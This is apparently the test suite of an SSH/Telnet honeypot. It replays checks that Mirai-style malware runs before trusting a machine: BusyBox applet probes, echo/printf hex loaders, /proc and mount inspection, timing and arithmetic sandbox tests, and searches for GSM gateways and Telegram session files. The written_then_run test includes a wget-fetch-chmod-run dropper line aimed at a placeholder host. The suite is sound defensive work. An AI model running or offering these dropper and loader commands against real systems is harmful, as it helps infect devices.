#!/usr/bin/env python3
"""What attackers' programs look at before they trust a machine: each check here is one that was seen in the wild, asked over SSH.

Usage: evasion.py SKEP IMAGES [TEST...]
"""
import contextlib
import os
import re
import sys
import tomllib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from skep_e2e import Telnet, main  # noqa: E402
from ssh_clients import Door  # noqa: E402

SERVICES = {"debian": "ssh", "router": "router-ssh"}
ALL_BYTES = bytes(range(256))


class Machine:
    """A persona's machine, over SSH."""

    def __init__(self, door, name):
        self.door, self.name = door, name
        with open(os.path.join(door.state, "personas", f"{name}.toml"), "rb") as file:
            self.persona = tomllib.load(file)

    def run(self, command, **options):
        return self.door.ssh(command, service=SERVICES[self.name], **options)

    def says(self, command, output, errors=b"", status=0):
        done = self.run(command)
        assert (done.stdout, done.stderr, done.returncode) == (output, errors, status), (self.name, command, done)

    def output(self, command):
        done = self.run(command)
        assert done.returncode == 0, (self.name, command, done)
        return done.stdout.decode()


@contextlib.contextmanager
def machines(skep, images, *names):
    with Door(skep, images) as door:
        yield [Machine(door, name) for name in names or SERVICES]


def applet_checks(skep, images):
    """Mirai and its children: an unknown applet must be refused in BusyBox's words, by a BusyBox that is a program."""
    with machines(skep, images) as found:
        for machine in found:
            machine.says("/bin/busybox ECCHI", b"", b"ECCHI: applet not found\n", 127)
            machine.says("echo -e '\\x6F\\x6B'; /bin/busybox echo -e '\\x6b\\x61\\x6d\\x69'", b"ok\nkami\n")
            machine.says(">/tmp/.x && cd /tmp && /bin/busybox cp /bin/echo helper; >helper; /bin/busybox chmod 777 helper; ls -l helper | cut -c1-10; wc -c <helper", b"-rwxrwxrwx\n0\n")
            assert machine.run("/bin/busybox cat /bin/echo").stdout[:4] == b"\x7fELF"
            assert machine.run("cp /bin/echo /tmp/.s; cd /tmp; dd bs=52 count=1 if=.s || cat .s").stdout[:7] == b"\x7fELF\x02\x01\x01"
        with Telnet(found[0].door.address("router")) as peer:
            peer.login()
            for word in ("enable", "system", "shell", "sh"):
                peer.command(word)
            assert "applet not found" in peer.command("/bin/busybox MIRAI")


def loaders_are_exact(skep, images):
    """Echo loaders write a program in pieces of hexadecimal or octal: no byte may be lost or changed, in whatever way."""
    def pieces(each, size=60):
        return ["".join(each(byte) for byte in ALL_BYTES[at:at + size]) for at in range(0, 256, size)]

    hexadecimal, octal = pieces(lambda byte: f"\\x{byte:02x}"), pieces(lambda byte: f"\\{byte:03o}")
    octal_echo = pieces(lambda byte: f"\\0{byte:03o}")
    with machines(skep, images) as found:
        for machine in found:
            ways = {"hex": [f"echo -ne '{text}'" for text in hexadecimal], "busybox": [f"/bin/busybox echo -ne '{text}'" for text in hexadecimal],
                    "octal": [f"echo -ne '{text}'" for text in octal_echo], "printf": [f"printf '{text}'" for text in octal]}
            for way, lines in ways.items():
                command = "cd /tmp; >loaded; " + "; ".join(f"{line} >> loaded" for line in lines)
                machine.says(command + "; cat loaded", ALL_BYTES)
                machine.says("cat /tmp/loaded; rm /tmp/loaded", ALL_BYTES)  # in a second command
            for at, text in enumerate(hexadecimal):
                machine.says(f"echo -ne '{text}' | dd of=/tmp/seek bs=1 seek={at * 60} conv=notrunc 2>/dev/null", b"")
            machine.says("cat /tmp/seek; rm /tmp/seek", ALL_BYTES)
            assert machine.run("cat > /tmp/stdin; cat /tmp/stdin", input=ALL_BYTES * 300).stdout == ALL_BYTES * 300


def own_program(skep, images):
    with machines(skep, images) as found:
        for machine in found:
            debian = machine.name == "debian"
            machine.says("readlink /proc/self/exe", b"/usr/bin/readlink\n" if debian else b"/bin/busybox\n")
            machine.says("readlink /proc/$$/exe", b"/usr/bin/bash\n" if debian else b"/bin/busybox\n")
            assert machine.run("cat /proc/self/exe").stdout == machine.run("cat " + ("/usr/bin/cat" if debian else "/bin/busybox")).stdout
            machine.says("cp /proc/self/exe /tmp/me && head -c 4 /tmp/me | wc -c; rm /tmp/me", b"4\n")
            machine.says("tr '\\0' ' ' < /proc/self/cmdline", b"tr \\0   ")


def mounts_are_true(skep, images):
    """Loaders walk /proc/mounts and write into what says rw: the places are there, and they take the file."""
    with machines(skep, images) as found:
        for machine in found:
            lines = machine.output("cat /proc/mounts").splitlines()
            assert all(re.fullmatch(r"\S+ /\S* \S+ r[wo]\S* 0 0", line) for line in lines), lines
            places = {line.split()[1]: line.split() for line in lines}
            assert places["/"][0] == machine.persona["root_device"] and not re.search("overlay|skep|lowerdir", "\n".join(lines)), lines
            done = machine.run("while read -r device place rest; do [ -d $place ] || echo no $place; case $place in /sys*|/proc*|/dev/pts) continue;; esac; "
                               "echo kami > $place/.n && cat $place/.n && rm $place/.n || echo fails $place; done < /proc/mounts")
            assert set(done.stdout.splitlines()) == {b"kami"} and not done.stderr, done


def copies_by_reading(skep, images):
    with machines(skep, images) as found:
        for machine in found:
            machine.says("while read -r line; do echo \"$line\"; done < /etc/passwd > /tmp/copy; cmp /etc/passwd /tmp/copy && echo same", b"same\n")
            machine.says("while IFS= read -r line; do printf '%s\\n' \"$line\"; done < /etc/init.d/rcS > /tmp/copy; cmp /etc/init.d/rcS /tmp/copy && echo same"
                         if machine.name == "router" else "cat /bin/ls | cmp - /bin/ls && echo same", b"same\n")


def written_then_run(skep, images):
    """A script runs in the same command, in a second one, and in a second connection; a place that cannot run it would show."""
    with machines(skep, images) as found:
        for machine in found:
            for place in ("/tmp", "/var/tmp" if machine.name == "debian" else "/var", "/root", "/dev/shm" if machine.name == "debian" else "/tmp"):
                script = f"{place}/.probe.sh"
                machine.says(f"printf '#!/bin/sh\\necho ran $1\\n' > {script}; chmod +x {script}; {script} now", b"ran now\n")
                machine.says(f"{script} later; cd {place}; ./.probe.sh here; sh .probe.sh by-sh; rm {script}", b"ran later\nran here\nran by-sh\n")
                done = machine.run(script)
                assert done.returncode == 127 and re.search(b"not found|No such file", done.stderr), done
            machine.says("for d in \"$HOME\" /var/tmp /tmp /dev/shm; do f=\"$d/.x$$.sh\"; echo 'echo 0' > \"$f\" 2>/dev/null && chmod +x \"$f\" 2>/dev/null "
                         "&& [ \"$(\"$f\" 2>/dev/null)\" = 0 ] && rm -rf \"$f\" && echo good && exit 0; rm -rf \"$f\"; done; exit 1", b"good\n")
            done = machine.run("cd /tmp; wget -q -T 5 http://192.0.2.66/bins.sh; chmod 777 bins.sh; sh bins.sh; echo $?")
            assert done.stdout in (b"127\n", b"2\n") and b"bins.sh" in done.stderr, done


def names_agree(skep, images):
    """uname, nproc, lscpu, cpuinfo and the kernel's settings tell one machine."""
    with machines(skep, images) as found:
        for machine in found:
            persona = machine.persona
            names = [persona[key] for key in ("hostname", "kernel_release", "kernel_version", "machine")]
            for command in ("uname -s -v -n -r -m", "/bin/./uname -s -v -n -r -m", "uname -snrvm"):
                machine.says(command, " ".join(["Linux", *names]).encode() + b"\n")
            for flag, value in zip("nrvm", names):
                machine.says(f"uname -{flag}", value.encode() + b"\n")
            machine.says("cat /proc/sys/kernel/ostype /proc/sys/kernel/hostname /proc/sys/kernel/osrelease /proc/sys/kernel/version",
                         "\n".join(["Linux", *names[:3], ""]).encode())
            machine.says("nproc; grep -c ^processor /proc/cpuinfo; ls -d /sys/devices/system/cpu/cpu[0-9]* | wc -l", f"{persona['cpus']}\n".encode() * 3)


def processors_agree(skep, images):
    with machines(skep, images, "debian") as [machine]:
        persona = machine.persona
        told = dict(re.findall(r"^([^:]+):\s+(.*)$", machine.output("lscpu"), re.MULTILINE))
        assert int(told["CPU(s)"]) == persona["cpus"] and told["Model name"] == persona["cpu_model"] and told["Vendor ID"] == persona["cpu_vendor"], told
        parts = [int(told[name]) for name in ("Thread(s) per core", "Core(s) per socket", "Socket(s)")]
        assert min(parts) >= 1 and parts[0] * parts[1] * parts[2] == persona["cpus"], parts
        assert told["NUMA node(s)"] == "1" and "L3 cache" in told, told
        cpuinfo = machine.output("cat /proc/cpuinfo")
        assert cpuinfo.count("model name\t: " + persona["cpu_model"]) == persona["cpus"]


def hunters_find_nothing(skep, images):
    """GSM gateways, Telegram sessions, RouterOS: looked for on every machine, and on this one not there, in the tools' own words."""
    hunted = ["/var/spool/sms/*", "/var/log/smsd.log", "/etc/smsd.conf*", "/usr/bin/qmuxd", "/var/qmux_connect_socket", "/etc/config/simman",
              "/dev/ttyGSM*", "/dev/ttyUSB-mod*", "/dev/modem*", "/var/config/sms/*", "/root/.local/share/TelegramDesktop/tdata"]
    with machines(skep, images) as found:
        for machine in found:
            done = machine.run("ls -la " + " ".join(hunted))
            wanted = {f"ls: cannot access '{path}': No such file or directory" if machine.name == "debian" else f"ls: {path}: No such file or directory" for path in hunted}
            assert set(done.stderr.decode().splitlines()) == wanted and not done.stdout, done
            done = machine.run("locate D877F783D5D3EF8Cs")
            assert done.returncode == 127 and b"not found" in done.stderr, done
            done = machine.run("/ip cloud print")
            assert done.returncode == 127 and b"/ip: " in done.stderr, done
            assert "eth0" in machine.output("ifconfig")


def limits_are_plain(skep, images):
    with machines(skep, images) as found:
        for machine in found:
            assert re.search(r"open files.*\b1024\b|nofiles.*\b1024\b", machine.output("ulimit -a")), machine.name
            machine.says("ulimit -n; ulimit -c; ulimit -t; ulimit -v", b"1024\n0\nunlimited\nunlimited\n")
            machine.says("ulimit -n 65535; ulimit -n", b"65535\n")


def devices_are_devices(skep, images):
    with machines(skep, images) as found:
        for machine in found:
            listed = {line.split()[-1]: line for line in machine.output("ls -la /dev").splitlines()[1:]}
            for name, numbers in (("null", "1, +3"), ("zero", "1, +5"), ("full", "1, +7"), ("random", "1, +8"), ("urandom", "1, +9"), ("tty", "5, +0"), ("ptmx", "5, +2")):
                assert re.match(rf"crw-rw-rw- +1 root +(root|tty|0|5) +{numbers} ", listed[name]), listed[name]
            assert "nobody" not in "".join(listed.values()) and "65534" not in "".join(listed.values())
            machine.says("echo x > /dev/null; head -c 3 /dev/zero | wc -c; head -c 9 /dev/urandom | wc -c; echo x > /dev/full || echo full", b"3\n9\nfull\n",
                         machine.run("echo x > /dev/full").stderr)


def time_passes(skep, images):
    """A sandbox that skips sleeps shows; so does one in which a second lasts two."""
    with machines(skep, images) as found:
        for machine in found:
            told = machine.output("a=$(date +%s); u=$(cut -d. -f1 /proc/uptime); sleep 3; b=$(date +%s); v=$(cut -d. -f1 /proc/uptime); echo $((b-a)) $((v-u))").split()
            # A busy machine may be late to wake, never early; both clocks agree.
            assert 3 <= int(told[0]) <= 15 and abs(int(told[0]) - int(told[1])) <= 1, told


def arithmetic_is_right(skep, images):
    with machines(skep, images) as found:
        for machine in found:
            machine.says("echo $((7919*104729)); expr 12345 \\* 6789; echo $((1<<40)); awk 'BEGIN{for(i=0;i<100000;i++) s+=i; print s}'", b"829348951\n83810205\n1099511627776\n4999950000\n")
            machine.says("i=0; s=0; while [ $i -lt 50000 ]; do i=$((i+1)); s=$((s+i)); done; echo $s", b"1250025000\n")
            machine.says("seq 1 20000 | awk '{s+=$1} END {print s}'; seq 1 3000 | md5sum | cut -c1-32", b"200010000\nee9762749fc5338b6c9b0948d14219c7\n")
            machine.says("echo $(echo $(echo $(echo $(echo $((((((((((1+1))))))))))))))", b"2\n")


if __name__ == "__main__":
    main([applet_checks, loaders_are_exact, own_program, mounts_are_true, copies_by_reading, written_then_run, names_agree, processors_agree,
          hunters_find_nothing, limits_are_plain, devices_are_devices, time_passes, arithmetic_is_right])
